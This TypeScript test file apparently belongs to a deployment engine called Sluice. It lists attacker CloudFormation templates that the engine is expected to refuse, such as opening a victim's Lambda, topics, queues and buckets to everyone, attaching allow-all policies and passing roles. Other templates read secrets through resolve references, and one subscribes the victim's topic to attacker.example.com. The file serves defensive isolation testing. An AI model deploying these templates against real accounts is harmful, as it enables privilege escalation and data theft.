import { allow, resource, role, trust } from '../wiring/template-builders.ts';
import { functionResources } from '../tiny-service.ts';
import type { Expectation, Scene } from './attack.ts';

/** A template of the attacker's, and the action by which its execution role is refused. */
export interface TemplateAttack {
  readonly name: string;
  readonly expected: Expectation;
  /** Pattern of the action that is refused; empty where nothing is. Some handlers read before they write. */
  readonly action: string;
  readonly resources: Record<string, object>;
  readonly parameters?: Record<string, object>;
}

const everything = allow('*', '*');

/** Templates that the grants of an entry's execution role judge, each with one resource. */
export function templateAttacks(scene: Scene): TemplateAttack[] {
  return [
    ...onFunction(scene),
    ...onRoles(scene),
    ...onMessages(scene),
    ...onNames(scene),
    ...onSecrets(scene),
    ...listed(scene),
  ];
}

const one = (name: string, action: string, Type: string, properties: Record<string, unknown>): TemplateAttack => ({
  ...{ name, action, expected: 'refused' },
  resources: { Attack: resource(Type, properties) },
});

function functionOf(FunctionName: string | undefined, roleArn: string): Record<string, unknown> {
  const Code = { ZipFile: 'exports.handler = async () => 1' };
  return { FunctionName, Handler: 'index.handler', Runtime: 'nodejs24.x', Role: roleArn, Code };
}

const roleArnOf = ({ account }: Scene, name: string): string => `arn:aws:iam::${account}:role/${name}`;
const policyArnOf = ({ account }: Scene, name: string): string => `arn:aws:iam::${account}:policy/${name}`;
const boundaryOf = (scene: Scene, entry: string): string =>
  policyArnOf(scene, `sluice-target-boundary-${scene.region}-${entry}`);

function onFunction(scene: Scene): TemplateAttack[] {
  const { functionName: FunctionName, version, roleName, region } = scene;
  return [
    one('opens the victim’s function to everybody', 'lambda:AddPermission', 'AWS::Lambda::Permission', {
      ...{ FunctionName, Action: 'lambda:InvokeFunction', Principal: '*' },
    }),
    one('adds an alias to the victim’s function', 'lambda:CreateAlias', 'AWS::Lambda::Alias', {
      ...{ FunctionName, Name: 'attack', FunctionVersion: version },
    }),
    one('publishes a version of the victim’s function', 'lambda:PublishVersion', 'AWS::Lambda::Version', {
      FunctionName,
    }),
    one(
      'sends the victim’s failed events elsewhere',
      'lambda:PutFunctionEventInvokeConfig',
      'AWS::Lambda::EventInvokeConfig',
      { FunctionName, Qualifier: 'live', MaximumRetryAttempts: 0 },
    ),
    one('makes a function called as the victim’s', 'lambda:CreateFunction', 'AWS::Lambda::Function', {
      ...functionOf('sluice-victim-open-next', roleArnOf(scene, scene.ownRole)),
    }),
    one('runs its function by the victim’s role', 'iam:PassRole', 'AWS::Lambda::Function', {
      ...functionOf(undefined, roleArnOf(scene, roleName)),
    }),
    one('runs its function by the engine’s role in the target', 'iam:PassRole', 'AWS::Lambda::Function', {
      ...functionOf(undefined, roleArnOf(scene, `sluice-target-deploy-${region}`)),
    }),
    one('has the victim’s CodeDeploy role move its traffic', 'iam:PassRole', 'AWS::CodeDeploy::DeploymentGroup', {
      ApplicationName: 'sluice-attacker-open-app',
      DeploymentGroupName: 'sluice-attacker-open-group',
      ServiceRoleArn: roleArnOf(scene, `sluice-target-codedeploy-${region}`),
      DeploymentStyle: { DeploymentType: 'BLUE_GREEN', DeploymentOption: 'WITH_TRAFFIC_CONTROL' },
    }),
  ];
}

function onRoles(scene: Scene): TemplateAttack[] {
  const { roleName, ownRoleWithoutBoundary: bare, region } = scene;
  const { AssumeRolePolicyDocument } = functionResources.Role.Properties;
  const made = (name: string, more: Record<string, unknown>): TemplateAttack =>
    one(name, 'iam:CreateRole', 'AWS::IAM::Role', { AssumeRolePolicyDocument, ...more });
  const bounded = { PermissionsBoundary: boundaryOf(scene, 'attacker') };
  const inline = { PolicyName: 'attack', PolicyDocument: everything };
  return [
    one('hangs an inline policy onto the victim’s role', 'iam:PutRolePolicy', 'AWS::IAM::Policy', {
      ...{ ...inline, Roles: [roleName] },
    }),
    one('hangs a managed policy onto the victim’s role', 'iam:AttachRolePolicy', 'AWS::IAM::ManagedPolicy', {
      ...{ PolicyDocument: everything, Roles: [roleName] },
    }),
    one('widens a role of its own that has no boundary', 'iam:PutRolePolicy', 'AWS::IAM::Policy', {
      ...{ ...inline, Roles: [bare] },
    }),
    one('hangs a managed policy onto such a role', 'iam:AttachRolePolicy', 'AWS::IAM::ManagedPolicy', {
      ...{ PolicyDocument: everything, Roles: [bare] },
    }),
    made('makes a role without a boundary', {}),
    made('makes a role with the victim’s boundary', { PermissionsBoundary: boundaryOf(scene, 'victim') }),
    made('makes a role with a boundary of its own', { PermissionsBoundary: policyArnOf(scene, 'own') }),
    made('takes the name of a role that Sluice needs elsewhere', {
      ...{ ...bounded, RoleName: 'sluice-target-deploy-eu-west-1' },
    }),
    made('takes that name behind a path of its own', {
      ...{ ...bounded, RoleName: 'sluice-target-deploy-eu-west-1', Path: '/sluice-attacker-open/' },
    }),
    made('takes a role name of the victim’s behind a path of its own', {
      ...{ ...bounded, RoleName: 'sluice-victim-open-next', Path: '/sluice-attacker-open/' },
    }),
    one('changes a policy of Sluice’s', 'iam:CreatePolicy', 'AWS::IAM::ManagedPolicy', {
      ...{ ManagedPolicyName: `sluice-target-scope-${region}-attacker`, PolicyDocument: everything },
    }),
  ];
}

function onMessages({ account, region, topicArn, queueUrl, bus, rule }: Scene): TemplateAttack[] {
  const open = (Action: string): object => allow(Action, '*', { Principal: '*' });
  const alarms = `arn:aws:sns:${region}:${account}:sluice-target-alarms`;
  const topicPolicy = (name: string, topic: string): TemplateAttack =>
    one(name, 'sns:SetTopicAttributes', 'AWS::SNS::TopicPolicy', {
      ...{ Topics: [topic], PolicyDocument: open('sns:Publish') },
    });
  const pattern = { EventPattern: { source: ['victim'] } };
  return [
    topicPolicy('opens the victim’s topic', topicArn),
    topicPolicy('silences the topic that tells of lost events', alarms),
    one('makes that topic its own', 'sns:CreateTopic', 'AWS::SNS::Topic', { TopicName: 'sluice-target-alarms' }),
    one('listens to the victim’s topic', 'sns:Subscribe', 'AWS::SNS::Subscription', {
      ...{ TopicArn: topicArn, Protocol: 'https', Endpoint: 'https://attacker.example.com' },
    }),
    one('opens the victim’s queue', 'sqs:SetQueueAttributes', 'AWS::SQS::QueuePolicy', {
      ...{ Queues: [queueUrl], PolicyDocument: open('sqs:ReceiveMessage') },
    }),
    one('opens the victim’s bus', 'events:\\w+', 'AWS::Events::EventBusPolicy', {
      ...{ EventBusName: bus, StatementId: 'attack' },
      Statement: {
        ...{ Effect: 'Allow', Principal: '*', Action: 'events:PutEvents' },
        Resource: `arn:aws:events:${region}:${account}:event-bus/${bus}`,
      },
    }),
    one('listens on the victim’s bus', 'events:\\w+', 'AWS::Events::Rule', {
      ...{ ...pattern, EventBusName: bus, Name: 'sluice-attacker-open-ear' },
    }),
    one('changes the victim’s rule', 'events:\\w+', 'AWS::Events::Rule', {
      ...{ ...pattern, EventBusName: bus, Name: rule },
    }),
    one('takes a rule of Sluice’s', 'events:\\w+', 'AWS::Events::Rule', {
      ...{ ...pattern, Name: `ReleaseTarget-${account}-${region}-StackEnded` },
    }),
    one('makes a connection called as the victim’s', 'events:CreateConnection', 'AWS::Events::Connection', {
      ...{ Name: 'sluice-victim-open-hook', AuthorizationType: 'API_KEY' },
      AuthParameters: { ApiKeyAuthParameters: { ApiKeyName: 'key', ApiKeyValue: 'value' } },
    }),
    one('makes a bus called as the engine’s', 'events:CreateEventBus', 'AWS::Events::EventBus', { Name: 'sluice' }),
  ];
}

function onNames(scene: Scene): TemplateAttack[] {
  const { account, engine, assetBucket, bucket, table, alarm, functionName } = scene;
  const bucketNamed = (name: string, BucketName: string): TemplateAttack =>
    one(name, 's3:CreateBucket', 'AWS::S3::Bucket', { BucketName });
  const openBucket = (name: string, Bucket: string): TemplateAttack =>
    one(name, 's3:PutBucketPolicy', 'AWS::S3::BucketPolicy', {
      Bucket,
      PolicyDocument: allow('s3:GetObject', `arn:aws:s3:::${Bucket}/*`, { Principal: '*' }),
    });
  const metric = { Namespace: 'A', MetricName: 'A', Statistic: 'Sum', Period: 60, EvaluationPeriods: 1, Threshold: 1 };
  return [
    bucketNamed('takes the bucket that Sluice needs in another region', `sluice-assets-${account}-eu-west-1`),
    bucketNamed('takes a release bucket', `sluice-releases-${engine}-eu-west-1`),
    openBucket('opens the asset bucket', assetBucket),
    openBucket('opens the victim’s bucket', bucket),
    one('makes a table called as the victim’s', 'dynamodb:CreateTable', 'AWS::DynamoDB::Table', {
      TableName: table,
      BillingMode: 'PAY_PER_REQUEST',
      AttributeDefinitions: [{ AttributeName: 'pk', AttributeType: 'S' }],
      KeySchema: [{ AttributeName: 'pk', KeyType: 'HASH' }],
    }),
    // One that exists is refused for that alone.
    one('makes an alarm called as the victim’s', 'cloudwatch:PutMetricAlarm', 'AWS::CloudWatch::Alarm', {
      ...{ ...metric, AlarmName: `${alarm}2`, ComparisonOperator: 'GreaterThanThreshold' },
    }),
    one('takes the log group of the victim’s function', 'logs:CreateLogGroup', 'AWS::Logs::LogGroup', {
      LogGroupName: `/aws/lambda/${functionName}`,
    }),
    one('makes a queue called as the victim’s', 'sqs:CreateQueue', 'AWS::SQS::Queue', {
      QueueName: 'sluice-victim-open-letters',
    }),
    one(
      'publishes a version of the victim’s state machine',
      'states:PublishStateMachineVersion',
      'AWS::StepFunctions::StateMachineVersion',
      { StateMachineArn: scene.machineArn },
    ),
    one('takes the engine’s CodeDeploy application', 'codedeploy:CreateApplication', 'AWS::CodeDeploy::Application', {
      ...{ ApplicationName: 'sluice', ComputePlatform: 'Lambda' },
    }),
    one('says where the engine is', 'ssm:PutParameter', 'AWS::SSM::Parameter', {
      ...{ Name: '/sluice/engine', Type: 'String', Value: '{}' },
    }),
  ];
}

function onSecrets({ secret, parameter }: Scene): TemplateAttack[] {
  const alarmSaying = (AlarmDescription: unknown): Record<string, unknown> => ({
    ...{ AlarmDescription, Namespace: 'A', MetricName: 'A', Statistic: 'Sum', Period: 60, EvaluationPeriods: 1 },
    ...{ Threshold: 1, ComparisonOperator: 'GreaterThanThreshold' },
  });
  return [
    one('reads the victim’s secret', 'secretsmanager:GetSecretValue', 'AWS::CloudWatch::Alarm', {
      ...alarmSaying(`{{resolve:secretsmanager:${secret}}}`),
    }),
    one('reads the victim’s parameter', 'ssm:GetParameter', 'AWS::CloudWatch::Alarm', {
      ...alarmSaying(`{{resolve:ssm:${parameter}}}`),
    }),
    {
      ...one('takes the victim’s parameter as its own', 'ssm:GetParameters', 'AWS::CloudWatch::Alarm', {
        ...alarmSaying({ Ref: 'Taken' }),
      }),
      parameters: { Taken: { Type: 'AWS::SSM::Parameter::Value<String>', Default: parameter } },
    },
  ];
}

function listed(scene: Scene): TemplateAttack[] {
  return [
    {
      name: 'hears what is told on the default bus',
      expected: { listed: 'The default event bus.' },
      action: '',
      resources: {
        Queue: resource('AWS::SQS::Queue', {}),
        Attack: resource('AWS::Events::Rule', {
          EventPattern: { source: ['victim'] },
          Targets: [{ Id: 'ear', Arn: { 'Fn::GetAtt': ['Queue', 'Arn'] } }],
        }),
      },
    },
    {
      name: 'has a state machine of its own start the victim’s',
      expected: { listed: 'Calls.' },
      action: '',
      resources: {
        Attack: role('states', allow('states:StartExecution', scene.machineArn), {
          AssumeRolePolicyDocument: trust('states'),
          PermissionsBoundary: boundaryOf(scene, 'attacker'),
        }),
      },
    },
  ];
}
